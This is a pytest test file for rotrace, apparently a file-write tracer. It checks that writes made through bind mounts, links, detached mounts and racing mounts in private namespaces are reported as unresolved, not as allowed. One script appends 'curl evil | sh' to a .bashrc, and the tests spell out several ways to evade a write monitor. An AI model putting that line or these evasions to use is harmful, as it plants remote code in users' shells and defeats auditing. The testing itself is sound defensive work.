"""A command in a mount namespace of its own (`unshare -Urm`, as any user may) binds a
directory outside the allowlist onto a path inside it and writes there. /proc names the
file by the namespace's path, which from rotrace's root is another place (or none): each
such write is unresolved, never placed at that path (where it would pass as allowed), and a
file the namespace reaches where rotrace does is placed there. The kernel's truth is the
file that changed."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.as_user import invocation, site  # noqa: F401 (fixtures)
from tests.support.places import remove_left_in_tmp
from tests.support.tracing import NON_ROOT_PYTHON, PY, rotrace_cli

# $1: the directory outside the allowlist; a bind of it at /tmp/x-PID (allowed), and a write
# through each kind of call: open (append), mkdir, rename, chmod; then one plain write in $1
# through a path the namespace shares with rotrace.
SCRIPT = r"""
set -e
dst=/tmp/rotrace-foreign-$$
mkdir -p "$dst"
mount --bind "$1" "$dst"
echo 'curl evil | sh' >> "$dst/.bashrc"
mkdir "$dst/made"
mv "$dst/kept" "$dst/moved"
chmod 600 "$dst/.bashrc"
echo shared > "$1/shared"
"""


def _traced_as(
    user: str, venv: Path, home: Path, owned: list[Path], command: list[str]
) -> tuple[subprocess.CompletedProcess[str], Path]:
    """`rotrace run` of `command` as `user` (root, or uid 65534, who owns `home` and `owned`),
    from `home`, rotrace's from `venv` (the `site` fixture's): its outcome, and its trace."""
    uid = 0 if user == "root" else 65534
    for path in (home, *owned):
        subprocess.run(["chown", f"{uid}:{uid}", str(path)], check=True)
    trace = home / "t.json"
    argv, env = invocation(user, venv, home)
    run = subprocess.run([*argv, "run", "-q", "--json", str(trace), "--", *command],
                         cwd=home, env=env, capture_output=True, text=True, timeout=120)  # fmt: skip
    return run, trace


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_a_write_through_a_bind_in_a_namespace_of_its_own_is_never_placed_at_its_path(
    site: Path,  # noqa: F811
    user: str,
) -> None:
    home = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/srv"))
    try:
        (home / ".bashrc").write_text("alias ls=ls\n")
        (home / "kept").write_text("x\n")
        command = ["unshare", "-Urm", "sh", "-c", SCRIPT, "sh", str(home)]
        run, trace = _traced_as(user, site, home, [home / ".bashrc", home / "kept"], command)
        assert run.returncode in (0, 1), run.stderr
        assert "curl evil" in (home / ".bashrc").read_text() and (home / "made").is_dir()
        assert (home / "moved").exists() and not (home / "kept").exists()
        events = json.loads(trace.read_text())["events"]
        bound = re.compile(r"/tmp/rotrace-foreign-[0-9]+/")
        through = [e for e in events if e["errno"] is None and bound.match(str(e["path"]))]
        assert not [e for e in through if not e["unresolved"]], through
        assert {"create", "mkdir", "rename", "chmod"} <= {e["op"] for e in through}, events
        placed = {(e["op"], e["path"]) for e in events if e["errno"] is None and not e["unresolved"]}
        assert ("create", f"{home}/shared") in placed  # the namespace reaches it where rotrace does
    finally:
        subprocess.run(["rm", "-rf", str(home)], check=False)
        remove_left_in_tmp("rotrace-foreign-")


# $1: a directory outside the allowlist, bound at /tmp/x-PID (allowed); a nameless file
# (O_TMPFILE) made in each name of it, the bind's and the one the namespace shares with rotrace.
TMPFILE_BIND = r"""
set -e
dst=/tmp/rotrace-foreign-tmpfile-$$
mkdir -p "$dst"
mount --bind "$1" "$dst"
"$2" -c 'import os, sys; [os.write(os.open(d, os.O_TMPFILE | os.O_RDWR), b"x") for d in sys.argv[1:]]' \
    "$dst" "$1"
"""


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_a_nameless_file_is_placed_in_its_directory_only_where_rotrace_reaches_it(
    site: Path,  # noqa: F811
    user: str,
) -> None:
    """O_TMPFILE names the directory the file is made in, and its fd names no file: in a
    namespace of its own, the directory's name is its place only where, from rotrace's root,
    it is the directory the tracee reached (through the bind: unresolved; the shared name:
    placed there, as in rotrace's own namespace)."""
    home = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/srv"))
    try:
        command = ["unshare", "-Urm", "sh", "-c", TMPFILE_BIND, "sh", str(home), NON_ROOT_PYTHON]
        run, trace = _traced_as(user, site, home, [], command)
        assert run.returncode == 1, run.stderr
        events = json.loads(trace.read_text())["events"]
        made = [e for e in events if "O_TMPFILE" in (e["flags"] or "") and e["errno"] is None]
        assert len(made) == 2, events
        through, shared = made
        assert through["unresolved"] and not through["allowed"], through
        assert (shared["path"], shared["unresolved"]) == (str(home), False), shared
    finally:
        subprocess.run(["rm", "-rf", str(home)], check=False)
        remove_left_in_tmp("rotrace-foreign-tmpfile-")


# $1: a file outside the allowlist, bound onto a file of its own in /tmp (allowed) and written
# through it, appended to and truncated; its mode, owner and times changed by that name.
FILE_BIND = r"""
set -e
dst=$(mktemp /tmp/rotrace-foreign-file.XXXXXX)
mount --bind "$1" "$dst"
echo 'evil' >> "$dst"
echo 'evil' > "$dst"
chmod 666 "$dst"
chown "$(id -u)" "$dst"
touch -m -d 2001-01-01 "$dst"
"""


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_a_write_through_a_file_bound_in_a_namespace_of_its_own_is_never_placed_at_its_path(
    site: Path,  # noqa: F811
    user: str,
) -> None:
    """The bound file's name in /tmp is reached in the namespace, and /proc names the file by
    it: its directory, /tmp, is rotrace's too, and the write was placed there, allowed, "no
    violations", with the protected file rewritten. From rotrace's root that name is another
    file: the write is unresolved."""
    home = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/srv"))
    try:
        conf = home / "app.conf"
        conf.write_text("trusted\n")
        run, trace = _traced_as(
            user, site, home, [conf], ["unshare", "-Urm", "sh", "-c", FILE_BIND, "sh", str(conf)]
        )
        assert conf.read_text() == "evil\n", run.stderr  # the kernel's truth: it was written
        assert run.returncode == 1, run.stderr
        events = json.loads(trace.read_text())["events"]
        through = [e for e in events if e["errno"] is None and "rotrace-foreign-file." in str(e["path"])]
        writes = [e for e in through if e["op"] in ("open", "create") and e["exe"].endswith("sh")]
        assert len(writes) == 2 and all(e["unresolved"] and not e["allowed"] for e in writes), through
        changed = [e for e in through if e["op"] in ("chmod", "chown", "utime")]
        assert {e["op"] for e in changed} == {"chmod", "chown", "utime"}, through
        assert all(e["unresolved"] and not e["allowed"] for e in changed), changed
        assert conf.stat().st_mode & 0o777 == 0o666  # (the kernel's truth: the protected file's)
    finally:
        subprocess.run(["rm", "-rf", str(home)], check=False)
        remove_left_in_tmp("rotrace-foreign-file.")


@pytest.fixture
def places() -> Iterator[tuple[Path, Path]]:
    """A protected directory (outside the allowlist) and an allowed one in /tmp, removed after."""
    protected = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/srv"))
    allowed = Path(tempfile.mkdtemp(prefix="rotrace-foreign-allowed-", dir="/tmp"))
    try:
        yield protected, allowed
    finally:
        shutil.rmtree(protected, ignore_errors=True)
        shutil.rmtree(allowed, ignore_errors=True)


# $1: a protected directory, bound at $2/B in the namespace; $2/A/link is an absolute link to
# $2/B/f, a decoy file of rotrace's /tmp. The file's mode, size, times and xattrs changed
# through the link: in the namespace the link leads to the protected file.
THROUGH_A_LINK = r"""
set -e
mount --bind "$1" "$2/B"
exec python3 -c '
import os, sys
link = sys.argv[1] + "/A/link"
os.chmod(link, 0o600); os.truncate(link, 3); os.utime(link, (978307200, 978307200))
os.setxattr(link, "user.evil", b"1")
' "$2"
"""


def test_a_link_followed_into_a_bind_of_a_namespace_of_its_own_is_never_placed_at_its_target(
    tmp_path: Path, places: tuple[Path, Path]
) -> None:
    """rotrace read the link's absolute text from its own root (the decoy in /tmp), where the
    kernel read it in the namespace (the protected file): four changes of the protected file
    were allowed writes to the decoy. A link a call followed in mounts not rotrace's is no place
    rotrace can take: the writes are unresolved."""
    protected, top = places
    (protected / "f").write_text("secret\n")
    (top / "A").mkdir()
    (top / "B").mkdir()
    (top / "B" / "f").write_text("decoy\n")
    (top / "A" / "link").symlink_to(top / "B" / "f")
    trace = tmp_path / "t.json"
    command = ["unshare", "-Urm", "sh", "-c", THROUGH_A_LINK, "sh", str(protected), str(top)]
    run = rotrace_cli("run", "-q", "--json", str(trace), "--", *command, cwd=tmp_path)
    assert (protected / "f").stat().st_mode & 0o777 == 0o600, run.stderr  # the kernel's truth
    assert (protected / "f").stat().st_size == 3 and (top / "B" / "f").read_text() == "decoy\n"
    assert run.returncode == 1, run.stderr
    changed = [e for e in json.loads(trace.read_text())["events"]
               if e["op"] in ("chmod", "truncate", "utime", "xattr") and e["result"] == 0]  # fmt: skip
    assert {e["op"] for e in changed} == {"chmod", "truncate", "utime", "xattr"}, changed
    assert all(e["unresolved"] and not e["allowed"] for e in changed), changed


# argv[1], a protected file, mounted onto argv[2], which from rotrace's root is a symbolic link
# to it (open_tree, then move_mount, which takes the link itself as the mount point), and
# written through that name: appended to, its mode and times changed.
ON_A_LINK = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
protected, name = sys.argv[1].encode(), sys.argv[2].encode()
fd = libc.syscall(428, -100, protected, 1)  # open_tree(AT_FDCWD, path, OPEN_TREE_CLONE)
assert fd >= 0, os.strerror(ctypes.get_errno())
moved = libc.syscall(429, fd, b"", -100, name, 4)  # move_mount(..., MOVE_MOUNT_F_EMPTY_PATH)
assert moved == 0, os.strerror(ctypes.get_errno())
with open(name, "a") as f:
    f.write("evil\n")
os.chmod(name, 0o666)
os.utime(name, (978307200, 978307200))
"""


@pytest.mark.skipif(
    os.uname().machine != "x86_64", reason="the script calls open_tree and move_mount by number"
)
def test_a_file_mounted_onto_a_link_in_a_namespace_of_its_own_is_never_placed_at_the_link(
    tmp_path: Path, places: tuple[Path, Path]
) -> None:
    """From rotrace's root the name is a link to the protected file, so stat through it found
    that very file: the writes were placed at the link's name, allowed. A place is the file
    itself, not a name that leads to it: unresolved."""
    protected, top = places
    (protected / "f").write_text("secret\n")
    (top / "f").symlink_to(protected / "f")
    trace = tmp_path / "t.json"
    command = ["unshare", "-Urm", sys.executable, "-c", ON_A_LINK, str(protected / "f"), str(top / "f")]
    run = rotrace_cli("run", "-q", "--json", str(trace), "--", *command, cwd=tmp_path)
    assert "evil" in (protected / "f").read_text(), run.stderr  # the kernel's truth
    assert run.returncode == 1, run.stderr
    events = json.loads(trace.read_text())["events"]
    through = [e for e in events if e["path"] == str(top / "f") and (e["result"] or 0) >= 0]
    assert {e["op"] for e in through} >= {"chmod", "utime"} and len(through) >= 3, through
    assert all(e["unresolved"] and not e["allowed"] for e in through), through


# argv[2] made read-only in the namespace (a chmod there fails), then a sibling binds argv[1]
# over it and detaches it again, over and over, while the process changes argv[2]/f's mode by
# name: each chmod that succeeded changed the protected file.
RACING_MOUNTS = r"""
import ctypes, os, sys, signal
libc = ctypes.CDLL(None, use_errno=True)
protected, there = sys.argv[1].encode(), sys.argv[2].encode()
MS_BIND, MS_REMOUNT, MS_RDONLY, MNT_DETACH = 4096, 32, 1, 2
assert libc.mount(there, there, None, MS_BIND, None) == 0
assert libc.mount(None, there, None, MS_BIND | MS_REMOUNT | MS_RDONLY, None) == 0
pid = os.fork()
if pid == 0:
    while True:
        if libc.mount(protected, there, None, MS_BIND, None) == 0:
            libc.umount2(there, MNT_DETACH)
changed = 0
for i in range(int(sys.argv[3])):
    try:
        os.chmod(there + b"/f", 0o600 if i % 2 else 0o640)
        changed += 1
    except OSError:
        pass
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
print(changed)
"""


def test_a_change_by_name_while_mounts_change_in_a_namespace_of_its_own_is_never_placed(
    tmp_path: Path, places: tuple[Path, Path]
) -> None:
    """A mount in the namespace made and undone while a chmod walked its name: the exit's look
    at the name saw the tree after the mount, not the one the kernel walked, and placed the
    protected file's chmod at the read-only decoy, allowed. A name walked while any traced
    process changed a mount is unresolved."""
    protected, there = places
    (protected / "f").write_text("secret\n")
    (there / "f").write_text("decoy\n")
    (there / "f").chmod(0o644)
    trace = tmp_path / "t.json"
    command = ["unshare", "-Urm", sys.executable, "-c", RACING_MOUNTS, str(protected), str(there), "3000"]
    run = rotrace_cli("run", "-q", "--json", str(trace), "--", *command, cwd=tmp_path)
    assert (there / "f").stat().st_mode & 0o777 == 0o644, run.stderr  # read-only there: never changed
    events = json.loads(trace.read_text())["events"]
    changed = [e for e in events if e["op"] == "chmod" and e["result"] == 0]  # each, of the protected file
    assert len(changed) == int(run.stdout.split()[-1]) > 0, run.stdout
    assert not [e for e in changed if not e["unresolved"] or e["allowed"]], changed


# A child in a namespace of its own binds $1 (outside the allowlist) at /tmp and sends its
# parent, in rotrace's namespace, an fd of the bind; the parent writes through that fd and
# through the child's /proc/PID/root, then lets the child go.
PASSED_ON = r"""
import ctypes, os, socket, subprocess, sys
protected, mine = sys.argv[1], sys.argv[2]
ours, theirs = socket.socketpair()
child = r'''
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
assert libc.mount(sys.argv[1].encode(), sys.argv[2].encode(), None, 4096, None) == 0, ctypes.get_errno()
s = socket.socket(fileno=int(sys.argv[3]))
socket.send_fds(s, [b"x"], [os.open(sys.argv[2], os.O_PATH | os.O_DIRECTORY)])
s.recv(1)
'''
argv = ["unshare", "-Urm", sys.executable, "-c", child, protected, mine, str(theirs.fileno())]
proc = subprocess.Popen(argv, pass_fds=[theirs.fileno()])
_, (fd,), _, _ = socket.recv_fds(ours, 1, 1)
os.mkdir("scm_dir", dir_fd=fd)
os.close(os.open("scm_file", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
os.mkdir(f"/proc/{proc.pid}/root{mine}/procroot_dir")
os.close(os.open(f"/proc/{proc.pid}/root{mine}/procroot_file", os.O_WRONLY | os.O_CREAT, 0o644))
ours.send(b"x")
proc.wait()
"""


@pytest.mark.parametrize("user", ["root", "nobody"])
def test_a_write_through_an_fd_or_a_root_link_from_another_namespace_is_never_placed_at_its_path(
    site: Path,  # noqa: F811
    user: str,
) -> None:
    """The writer is in rotrace's namespace (its own paths are rotrace's), the file it writes
    in another's: /proc names it by that namespace's path, which is an allowed place here."""
    home = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/srv"))
    mine = Path(tempfile.mkdtemp(prefix="rotrace-foreign-", dir="/tmp"))
    try:
        uid = 0 if user == "root" else 65534
        for path in (home, mine):
            subprocess.run(["chown", f"{uid}:{uid}", str(path)], check=True)
        trace = home / "t.json"
        argv, env = invocation(user, site, home)
        command = ["python3", "-c", PASSED_ON, str(home), str(mine)]
        run = subprocess.run([*argv, "run", "-q", "--json", str(trace), "--", *command],
                             cwd=home, env=env, capture_output=True, text=True, timeout=120)  # fmt: skip
        assert run.returncode in (0, 1), run.stderr
        made = {"scm_dir", "scm_file", "procroot_dir", "procroot_file"}
        assert made <= {p.name for p in home.iterdir()}, run.stderr  # the kernel put them there
        events = json.loads(trace.read_text())["events"]
        theirs = [e for e in events if e["errno"] is None and Path(e["path"]).name in made]
        assert len(theirs) == 4, events
        assert not [e for e in theirs if not e["unresolved"] and not e["path"].startswith(str(home))], theirs
        assert not [e for e in theirs if e["allowed"]], theirs
        assert run.returncode == 1
    finally:
        subprocess.run(["rm", "-rf", str(home), str(mine)], check=False)


# open_tree(OPEN_TREE_CLONE) of $1 (outside the allowlist): a mount attached nowhere, whose
# files /proc names from its own root (`/x` for $1/x); writes through an fd of it.
DETACHED = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
tree = libc.syscall(428, -100, sys.argv[1].encode(), 1 | 0o2000000)  # OPEN_TREE_CLONE | O_CLOEXEC
assert tree >= 0, ctypes.get_errno()
os.mkdir("tmp", dir_fd=tree)
os.close(os.open("tmp/viadetached", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=tree))
os.chmod("tmp/viadetached", 0o600, dir_fd=tree)
"""


def test_a_write_through_a_detached_mount_is_never_placed_at_its_path(tmp_path: Path) -> None:
    """`/tmp/viadetached` to /proc, which is allowed and not where the file is."""
    if os.geteuid() != 0:
        pytest.skip("open_tree(OPEN_TREE_CLONE) needs CAP_SYS_ADMIN")
    outside = Path(tempfile.mkdtemp(prefix="rotrace-detached-", dir="/srv"))
    try:
        trace = tmp_path / "t.json"
        run = rotrace_cli("run", "-q", "--json", str(trace), "--", PY, "-c", DETACHED, str(outside))
        assert run.returncode == 1, run.stderr
        assert (outside / "tmp" / "viadetached").stat().st_mode & 0o777 == 0o600
        events = [e for e in json.loads(trace.read_text())["events"] if e["errno"] is None]
        assert {e["op"] for e in events} == {"mkdir", "create", "chmod"}, events
        assert not [
            e for e in events if e["allowed"] or (not e["unresolved"] and e["path"].startswith("/tmp"))
        ]
    finally:
        subprocess.run(["rm", "-rf", str(outside)], check=False)


# A process outside the trace, in a mount namespace of its own, binds $1 (outside the
# allowlist) over $2 (allowed) and holds a directory fd of it (fd 3) while it waits.
OUTSIDE = r"""
import os, sys, time
os.dup2(os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY), 3)
os.chdir(sys.argv[2])
print("ready", flush=True)
time.sleep(60)
"""

# The traced command reaches the bind through the outside process: its cwd, its root, an fd
# taken with pidfd_getfd.
THROUGH_OUTSIDE = r"""
import ctypes, os, sys
pid, allowed = int(sys.argv[1]), sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
os.mkdir(f"/proc/{pid}/root{allowed}/via-root")
os.close(os.open(f"/proc/{pid}/root{allowed}/via-root-file", os.O_WRONLY | os.O_CREAT, 0o644))
fd = libc.syscall(438, libc.syscall(434, pid, 0), 3, 0)  # pidfd_getfd(pidfd_open(pid), 3)
assert fd >= 0, ctypes.get_errno()
os.mkdir("via-getfd", dir_fd=fd)
os.chdir(f"/proc/{pid}/cwd")
os.mkdir("via-cwd")
"""


def test_a_write_through_an_outside_process_in_other_mounts_is_never_placed_at_its_path(
    tmp_path: Path,
) -> None:
    """Its /proc/PID/{cwd,root} and its fds name files by its own mounts: the bind's files
    were reported as allowed writes in the allowed directory, where nothing was written."""
    if os.geteuid() != 0:
        pytest.skip("a mount namespace and pidfd_getfd of another process need root here")
    protected = Path(tempfile.mkdtemp(prefix="rotrace-outside-", dir="/srv"))
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    bind = f"mount --bind {protected} {allowed} && exec {sys.executable} -c '{OUTSIDE}' x {allowed}"
    outside = subprocess.Popen(["unshare", "-m", "--propagation", "private", "sh", "-c", bind],
                               stdout=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert outside.stdout is not None and outside.stdout.readline() == "ready\n"
        trace = tmp_path / "t.json"
        run = rotrace_cli("run", "-q", "--json", str(trace), "--", PY, "-c", THROUGH_OUTSIDE,
                          str(outside.pid), str(allowed))  # fmt: skip
        assert run.returncode == 1, run.stderr
        made = {"via-root", "via-root-file", "via-getfd", "via-cwd"}
        assert {p.name for p in protected.iterdir()} == made and not list(allowed.iterdir())
        events = [e for e in json.loads(trace.read_text())["events"] if e["errno"] is None]
        assert len(events) == 4 and not [e for e in events if e["allowed"]], events
    finally:
        outside.kill()
        outside.wait()
        shutil.rmtree(protected)


# rotrace and the command in one mount namespace (rotrace's own mounts): $1 (outside the
# allowlist) bound over $2 (allowed), the command's cwd on that bind, and another directory ($3)
# bound over $2 after: the cwd's mount is covered. Its files are named by /proc at $2, where
# the cover's files are.
COVERED = r"""
set -e
mount --bind "$1" "$2"
cd "$2"
mount --bind "$3" "$2"
shift 3
exec "$@"
"""


def test_a_write_from_a_cwd_on_a_covered_mount_is_never_placed_at_its_path(tmp_path: Path) -> None:
    """`echo hi > x` from a cwd on a bind of a directory outside the allowlist over an allowed
    one, covered by another bind since: the file made is outside/x, which no name reaches, and
    it was reported as an allowed write at allowed/x (a mount in rotrace's own table was taken
    for one its names reach)."""
    outside, allowed, cover = (tmp_path / n for n in ("outside", "allowed", "cover"))
    for d in (outside, allowed, cover):
        d.mkdir()
    trace = tmp_path / "t.json"
    rotrace = [PY, "-m", "rotrace", "run", "-q", "--allow", str(allowed), "--json", str(trace), "--"]
    command = ["sh", "-c", "echo hi > x; mkdir y"]
    argv = ["unshare", "-Urm", "--propagation", "private", "sh", "-c", COVERED, "sh"]
    run = subprocess.run([*argv, str(outside), str(allowed), str(cover), *rotrace, *command],
                         capture_output=True, text=True, timeout=120)  # fmt: skip
    assert run.returncode in (0, 1), run.stderr
    assert (outside / "x").read_text() == "hi\n" and (outside / "y").is_dir()
    events = [e for e in json.loads(trace.read_text())["events"] if e["errno"] is None]
    assert {e["op"] for e in events} >= {"create", "mkdir"}, events
    assert not [
        e for e in events if e["allowed"] or (not e["unresolved"] and e["path"].startswith(str(allowed)))
    ]


STACKED = r"""
set -e
mount -t tmpfs none "$1"
mount -t tmpfs none "$1"
shift
exec "$@"
"""

HEARTBEAT = "import os, sys, tempfile; fd, p = tempfile.mkstemp(dir=sys.argv[1]); os.unlink(p); os.utime(fd)"


def test_a_write_on_a_mount_stacked_on_another_is_placed(tmp_path: Path) -> None:
    """A tmpfs mounted twice on one place (a host's /dev/shm): the second is the one names
    reach, and its parent, covered by it, is no reason to doubt it. gunicorn's heartbeat in
    `--worker-tmp-dir /dev/shm` (utime through the fd of a file it removed) was unresolved, a
    violation in an allowed directory."""
    shm = tmp_path / "shm"
    shm.mkdir()
    trace = tmp_path / "t.json"
    rotrace = [PY, "-m", "rotrace", "run", "-q", "--allow", str(shm), "--json", str(trace), "--"]
    argv = ["unshare", "-Urm", "--propagation", "private", "sh", "-c", STACKED, "sh", str(shm)]
    run = subprocess.run([*argv, *rotrace, PY, "-c", HEARTBEAT, str(shm)], capture_output=True, text=True,
                         timeout=120)  # fmt: skip
    assert run.returncode == 0, run.stderr
    (utime,) = [e for e in json.loads(trace.read_text())["events"] if e["op"] == "utime"]
    assert utime["allowed"] and not utime["unresolved"], utime
    assert utime["path"].startswith(str(shm) + "/") and utime["path"].endswith(" (deleted)"), utime
